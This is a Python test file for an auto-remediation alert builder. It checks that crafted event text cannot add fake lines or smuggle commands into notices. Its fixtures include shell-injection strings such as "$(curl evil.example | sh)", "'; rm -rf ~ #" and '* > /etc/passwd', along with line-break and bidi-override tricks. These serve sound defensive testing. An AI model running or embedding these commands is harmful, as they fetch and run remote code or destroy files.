"""Notices: event text cannot add a line to the mail or a command to the history line."""

from __future__ import annotations

import shlex

import pytest

from serverless_remediation.remediation.models import Outcome, Result
from serverless_remediation.remediation.notify import SUBJECT_LIMIT, build_notice, one_line

ALIAS = "arn:aws:lambda:eu-west-1:123456789012:function:orders:live"
LABELS = (
    "Outcome:",
    "Why:",
    "Action:",
    "Target:",
    "Trigger:",
    "Triggered:",
    "Audit id:",
    "Before:",
    "After:",
    "History:",
)
# Every character that ends or reorders a line somewhere: mail, chat, terminals, editors.
BREAKERS = [
    "\n",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
FAKE = "Outcome:    executed"

HOSTILE_TARGETS = {
    "newline and a fake outcome": f"{ALIAS}\n{FAKE}",
    "carriage return": f"{ALIAS}\r{FAKE}",
    "line separator": f"{ALIAS}\u2028{FAKE}",
    "paragraph separator": f"{ALIAS}\u2029{FAKE}",
    "next line (C1)": f"{ALIAS}\x85{FAKE}",
    "tab and escape sequence": f"{ALIAS}\t\x1b[2J\x1b[31m{FAKE}",
    "bidi override": f"{ALIAS}\u202e{FAKE[::-1]}\u202c",
    "shell: quote and rm": "'; rm -rf ~ #",
    "shell: command substitution": "$(curl evil.example | sh)",
    "shell: backticks": "`id`; reboot",
    "shell: double quotes": '"; touch /tmp/pwned; echo "',
    "shell: leading dashes": "--env prod --target *",
    "shell: glob and redirect": "* > /etc/passwd",
    "shell: everything at once": f"{ALIAS}'\"$(id)`id`;|&<>*?~#!",
    "non-ASCII": ALIAS + "é" * 5 + "田中",
}
# Targets a shell-safe command line can carry exactly (one line, nothing unsafe).
ONE_LINE_TARGETS = {
    k: v
    for k, v in HOSTILE_TARGETS.items()
    if not k.startswith(("new", "car", "line", "para", "next", "tab", "bidi"))
}


def notice(target="", *, reason="spike", key="orders-errors", why="alias 3 -> 2", **kw):
    result = Result(
        "id1",
        kw.pop("outcome", Outcome.EXECUTED),
        why,
        kw.pop("action", "rollback"),
        target,
        kw.pop("before", {"version": "3"}),
        kw.pop("after", {"version": "2"}),
    )
    return build_notice(kw.pop("env", "prod"), result, key=key, reason=reason)


def structure(message: str) -> list[str]:
    """The label of each line (empty for the blank line): what a reader takes as fields."""
    return [line.split(":", 1)[0] + ":" if line else "" for line in message.split("\n")]


EXPECTED = [*LABELS[:-1], "", "History:"]


def assert_only_its_own_lines(message: str) -> None:
    """Exactly the notice's own lines, each once, and no line-breaking character left."""
    assert structure(message) == EXPECTED, message
    assert sum(line.startswith("Outcome:") for line in message.split("\n")) == 1
    for ch in [*BREAKERS, *BIDI, "\t", "\x1b", "\x00"]:
        if ch != "\n":
            assert ch not in message, repr(ch)
    assert message.splitlines() == message.split("\n"), "a character str.splitlines breaks on"


def history_target(message: str) -> str:
    line = message.split("\n")[-1]
    assert line.startswith("History: ")
    words = shlex.split(line.removeprefix("History: "))
    assert words[:4] == ["remediate", "history", "--env", "prod"], words
    (target,) = [w.removeprefix("--target=") for w in words if w.startswith("--target=")]
    assert len(words) == 5, words
    return target


@pytest.mark.parametrize("target", HOSTILE_TARGETS.values(), ids=HOSTILE_TARGETS.keys())
def test_a_crafted_target_cannot_add_a_line(target):
    subject, message = notice(target)
    assert_only_its_own_lines(message)
    assert subject.isascii()
    assert subject.isprintable()
    assert len(subject) <= SUBJECT_LIMIT


@pytest.mark.parametrize("target", ONE_LINE_TARGETS.values(), ids=ONE_LINE_TARGETS.keys())
def test_the_history_line_round_trips_to_the_exact_target(target):
    _, message = notice(target)
    assert history_target(message) == target


@pytest.mark.parametrize(
    "target",
    [HOSTILE_TARGETS[k] for k in ("newline and a fake outcome", "line separator", "bidi override")],
)
def test_a_target_that_cannot_be_one_line_is_not_offered_as_a_command(target):
    _, message = notice(target)
    history = message.split("\n")[-1]
    assert "--target" not in history
    assert "not shown as a command" in history
    # What remains is still a command a reader can paste: list recent records.
    assert shlex.split(history.split("with: ", 1)[1]) == ["remediate", "history", "--env", "prod"]


def test_the_target_line_shows_what_arrived_as_escapes():
    _, message = notice(f"{ALIAS}\n{FAKE}\u2028x\u202ey")
    (line,) = [x for x in message.split("\n") if x.startswith("Target:")]
    assert line == f"Target:     {ALIAS}\\n{FAKE}\\u2028x\\u202ey"


@pytest.mark.parametrize(
    "field", ["key", "reason", "why", "action", "outcome_reason_quoting_event_text"]
)
@pytest.mark.parametrize("breaker", [*BREAKERS, *BIDI, "\x00", "\x7f", "\ud800"])
def test_no_field_from_an_event_can_add_a_line(field, breaker):
    evil = f"ok{breaker}{FAKE}{breaker}Audit id:   forged"
    kwargs = {
        "key": {"key": evil},
        "reason": {"reason": evil},
        "why": {"why": evil},
        "action": {"action": evil},
        "outcome_reason_quoting_event_text": {
            "why": f"no playbook entry for alarm {evil!s}",
            "outcome": Outcome.REJECTED,
        },
    }[field]
    subject, message = notice(ALIAS, **kwargs)
    assert_only_its_own_lines(message)
    (audit,) = [line for line in message.split("\n") if line.startswith("Audit id:")]
    assert audit == "Audit id:   id1"
    assert subject.isascii()
    assert subject.isprintable()
    # The notice can still be published: valid UTF-8 (a lone surrogate is escaped).
    message.encode()


def test_before_and_after_from_an_event_stay_on_their_lines():
    _, message = notice(
        ALIAS,
        before={"value": f"a\n{FAKE}\u2028"},
        after={"value": "b\r\nHistory: rm -rf ~"},
    )
    assert_only_its_own_lines(message)
    assert message.split("\n")[-1] == f"History: remediate history --env prod --target={ALIAS}"


def test_a_rejected_unreadable_event_gets_a_history_line_without_a_target():
    result = Result("id9", Outcome.REJECTED, "unrecognised event\nOutcome: executed")
    subject, message = build_notice("prod", result, key="-", reason="-")
    assert subject == "[auto-remediation prod] rejected an unreadable event"
    assert message.split("\n")[-1] == "History: remediate history --env prod"
    assert structure(message) == [*LABELS[:-3], "", "History:"]


def test_the_environment_is_quoted_too():
    _, message = notice(ALIAS, env="prod; rm -rf ~")
    words = shlex.split(message.split("\n")[-1].removeprefix("History: "))
    assert words[:4] == ["remediate", "history", "--env", "prod; rm -rf ~"]


def test_a_plain_arn_is_shown_unquoted():
    _, message = notice(ALIAS)
    assert message.split("\n")[-1] == f"History: remediate history --env prod --target={ALIAS}"


def test_one_line_keeps_ordinary_text_and_bounds_long_text():
    assert one_line("Threshold Crossed: 5 > 5.0 (é, 田中, 🔥)") == (
        "Threshold Crossed: 5 > 5.0 (é, 田中, 🔥)"
    )
    long = one_line("x" * 5000, 100)
    assert long == "x" * 100 + "..."
